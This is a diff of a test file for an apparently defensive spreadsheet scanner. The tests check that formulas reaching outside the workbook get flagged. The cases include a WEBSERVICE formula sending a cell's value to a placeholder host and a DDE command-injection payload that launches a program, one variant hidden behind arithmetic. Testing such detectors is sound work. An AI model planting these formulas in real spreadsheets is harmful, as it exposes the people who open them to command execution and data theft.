@@ -87,21 +87,23 @@ describe('external-link', () => {
       blocks: [{ ...rows([['a', '1']]), details: new Map([[cellKey(1, 2), { formula: written }]]) }],
     });
 
-  it.each(['WEBSERVICE("https://x.example/?q="&A1)', 'RTD("prog.id",,"a")', "cmd|'/C calc'!A0"])(
-    'a formula that asks elsewhere: %s',
-    (written) => {
-      expect(formula(written)).toEqual([
-        expect.stringContaining(`flagged : A formula (“${written}”) fetches`),
-      ]);
-    },
-  );
+  it.each([
+    'WEBSERVICE("https://x.example/?q="&A1)',
+    'RTD("prog.id",,"a")',
+    "cmd|'/C calc'!A0",
+    "2+3+cmd|'/C calc'!A0",
+  ])('a formula that asks elsewhere: %s', (written) => {
+    expect(formula(written)).toEqual([expect.stringContaining(`flagged : A formula (“${written}”) fetches`)]);
+  });
 
-  it.each(['SUM(A1:A9)', 'HYPERLINK("https://x.example","more")', 'IF(A1="web|b",1,0)'])(
-    'but not %s',
-    (written) => {
-      expect(formula(written)).toEqual([]);
-    },
-  );
+  it.each([
+    'SUM(A1:A9)',
+    'HYPERLINK("https://x.example","more")',
+    'IF(A1="web|b",1,0)',
+    `IF(A1="IMAGE(x|'y'",1,0)`,
+  ])('but not %s', (written) => {
+    expect(formula(written)).toEqual([]);
+  });
 });
 
 describe('what stands behind what is shown', () => {
